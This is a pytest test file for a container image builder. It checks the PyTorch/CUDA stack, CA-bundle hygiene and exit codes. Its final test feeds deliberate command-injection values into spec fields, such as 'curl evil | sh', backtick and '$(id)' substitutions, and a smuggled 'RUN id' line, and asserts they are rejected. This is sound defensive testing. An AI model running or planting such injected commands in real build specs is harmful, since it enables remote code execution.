"""envkit build against the real engine: the shared torch image, CA hygiene, failures, exit codes."""

from __future__ import annotations

import json
import re
import subprocess
import uuid
from pathlib import Path

import pytest
import yaml

from envkit.image.base import BasePlan, bootstrap_rootfs
from envkit.spec.model import Bootstrap
from tests.conftest import REPO, BuiltImage, run_envkit

PROBE = (
    "import json, sys, torch, torchvision; "
    "print(json.dumps({'torch': torch.__version__, 'cuda': torch.version.cuda, "
    "'cudnn': torch.backends.cudnn.version(), 'torchvision': torchvision.__version__, "
    "'python': sys.version.split()[0]}))"
)


def docker_run(image: str, *cmd: str) -> str:
    cmdline = ["docker", "run", "--rm", image, *cmd]
    result = subprocess.run(cmdline, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_torch_image_has_the_pinned_stack_and_a_non_root_user(torch_image: BuiltImage) -> None:
    versions = json.loads(docker_run(torch_image.tag, "python", "-c", PROBE).strip().splitlines()[-1])
    assert versions["torch"].startswith("2.8.0")
    assert versions["cuda"] == "12.8"
    assert 90000 <= versions["cudnn"] < 100000, versions["cudnn"]  # cuDNN 9.x
    assert versions["torchvision"].startswith("0.23.0")
    assert versions["python"].startswith("3.11.")
    assert docker_run(torch_image.tag, "id", "-u").strip() != "0"
    # The home and /workspace belong to the default user.
    owner = docker_run(torch_image.tag, "stat", "-c", "%u", "/workspace", "/home/envkit").split()
    assert owner == ["1000", "1000"]


def test_build_json_describes_the_image(torch_image: BuiltImage, docker_client) -> None:  # type: ignore[no-untyped-def]
    data = torch_image.build_json
    image = docker_client.images.get(torch_image.tag)
    assert data["image_id"] == image.id
    assert data["tag"] == torch_image.tag
    assert data["size"] == image.attrs["Size"] > 5_000_000_000
    if data["reused"]:  # a developer's run with the cache kept: nothing was built
        assert "build" not in data["durations"] and data["durations"]["total"] > 0
        return
    assert data["durations"]["build"] > 0 and data["durations"]["compose"] > 0
    assert data["durations"]["total"] >= data["durations"]["build"] + data["durations"]["compose"]


def test_config_labels_and_nvidia_env(torch_image: BuiltImage, docker_client) -> None:  # type: ignore[no-untyped-def]
    config = docker_client.images.get(torch_image.tag).attrs["Config"]
    env = dict(item.split("=", 1) for item in config["Env"])
    assert env["NVIDIA_REQUIRE_CUDA"] == "cuda>=12.8"
    assert env["NVIDIA_DRIVER_CAPABILITIES"] == "compute,utility"
    assert env["NVIDIA_VISIBLE_DEVICES"] == "all"
    assert config["User"] == "1000:1000"
    labels = config["Labels"]
    assert labels["org.opencontainers.image.title"] == "pytorch-cuda:2.8"
    assert labels["io.envkit.torch"] == "2.8.0"
    assert labels["io.envkit.cuda"] == "12.8"
    assert labels["io.envkit.cudnn"].startswith("9.")
    assert re.fullmatch(r"sha256:[0-9a-f]{64}", labels["io.envkit.spec-digest"])


def _pem_bodies(text: str) -> list[str]:
    return re.findall(r"-----BEGIN CERTIFICATE-----\s*(.*?)\s*-----END CERTIFICATE-----", text, re.S)


def _needle(body: str) -> bytes:
    """A line from the middle of a certificate: key material, unique to that certificate."""
    lines = [line for line in body.split() if len(line) >= 40]
    return lines[len(lines) // 2].encode()


def test_build_ca_bundle_appears_nowhere_in_the_saved_image(torch_image: BuiltImage, docker_client) -> None:  # type: ignore[no-untyped-def]
    trust_store = docker_run(torch_image.tag, "cat", "/etc/ssl/certs/ca-certificates.crt")
    image_lines = {line for body in _pem_bodies(trust_store) for line in body.split()}
    given = _pem_bodies(torch_image.ca_bundle.read_text())
    # Certificates the image does not ship itself: the test's marker CA and any proxy CA of the host.
    foreign = [body for body in given if _needle(body).decode() not in image_lines]
    marker = _pem_bodies(torch_image.marker_cert)[0]
    assert marker in foreign
    needles = {_needle(body) for body in foreign}
    needles.add(b"envkit-build/ca-bundle")
    keep = max(len(n) for n in needles)
    tail = b""
    found: set[bytes] = set()
    for chunk in docker_client.api.get_image(torch_image.tag, chunk_size=8 * 1024 * 1024):
        window = tail + chunk
        found |= {needle for needle in needles if needle in window}
        tail = window[-keep:]
    assert not found, f"build-only material leaked into the image: {sorted(found)}"
    # Nothing in the build pointed a tool at the bundle: the host fetched the wheels with it.
    attrs = docker_client.api.inspect_image(torch_image.tag)
    history = json.dumps(docker_client.api.history(torch_image.tag))
    for text in (json.dumps(attrs["Config"]), history):
        for name in ("SSL_CERT_FILE", "PIP_CERT", "REQUESTS_CA_BUNDLE", "ca-bundle"):
            assert name not in text


def test_rebuild_with_nothing_changed_gives_the_same_image(torch_image: BuiltImage) -> None:
    bundle = str(torch_image.ca_bundle)
    result = run_envkit("build", "pytorch-cuda:2.8", "--tag", torch_image.tag, "--ca-bundle", bundle, "--json")
    assert result.returncode == 0, result.stderr[-3000:]
    again = json.loads(result.stdout)
    assert again["image_id"] == torch_image.image_id
    # Every input is pinned, so unchanged inputs reuse the image without asking the engine at all.
    assert again["reused"] is True


def _spec_variant(tmp_path: Path, **changes: object) -> Path:
    data = yaml.safe_load((REPO / "images" / "pytorch-cuda" / "2.8.yaml").read_text())
    data.update(changes)
    path = tmp_path / "variant.yaml"
    path.write_text(yaml.safe_dump(data))
    return path


def _containers() -> set[str]:
    out = subprocess.run(["docker", "ps", "-aq", "--no-trunc"], capture_output=True, text=True, check=True)
    return set(out.stdout.split())


def test_failing_build_keeps_the_old_image_and_leaves_no_containers(
    torch_image: BuiltImage, docker_client, tmp_path: Path  # type: ignore[no-untyped-def]
) -> None:
    target = f"envkit-test/failing:{uuid.uuid4().hex[:8]}"
    repo, tag = target.split(":")
    base = docker_client.images.get(torch_image.build_json["base"])
    docker_client.api.tag(base.id, repo, tag)
    before = _containers()
    try:
        spec = _spec_variant(tmp_path, apt=["envkit-no-such-package"])
        result = run_envkit("build", str(spec), "--tag", target, "--ca-bundle", str(torch_image.ca_bundle))
        assert result.returncode == 4, result.stderr[-3000:]
        assert "envkit-no-such-package" in result.stderr
        assert "step" in result.stderr.lower()
        assert docker_client.images.get(target).id == base.id
        assert _containers() == before
    finally:
        docker_client.images.remove(target)


def test_two_bootstraps_give_the_same_rootfs(tmp_path: Path) -> None:
    plan = BasePlan(bootstrap=Bootstrap(suite="bookworm"), source_date_epoch=1761955200)
    first = bootstrap_rootfs(plan, tmp_path / "a.tar")
    (tmp_path / "a.tar").unlink()
    second = bootstrap_rootfs(plan, tmp_path / "b.tar")
    assert first == second
    assert first.startswith("sha256:")


def test_unreachable_engine_exits_3_and_says_how_to_start_one() -> None:
    result = run_envkit("build", "pytorch-cuda:2.8", env={"DOCKER_HOST": "unix:///nonexistent/docker.sock"})
    assert result.returncode == 3, result.stderr
    assert "scripts/engine.sh" in result.stderr
    assert result.stdout == ""
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize(
    ("field", "value"),
    [("pip", ["torch==2.8.0; curl evil | sh"]), ("apt", ["git`id`"]), ("env", {"X": "$(id)"}),
     ("labels", {"a": "b\nRUN id"}), ("description", "x | y")],
)
def test_injection_in_a_spec_exits_2_before_anything_happens(
    tmp_path: Path, field: str, value: object
) -> None:
    spec = _spec_variant(tmp_path, **{field: value})
    before = _containers()
    result = run_envkit("build", str(spec), "--tag", "envkit-test/never:1")
    assert result.returncode == 2, result.stderr
    assert result.stdout == ""
    assert f"{field}" in result.stderr
    assert _containers() == before
    images = subprocess.run(["docker", "images", "-q", "envkit-test/never"], capture_output=True, text=True)
    assert images.stdout.strip() == ""
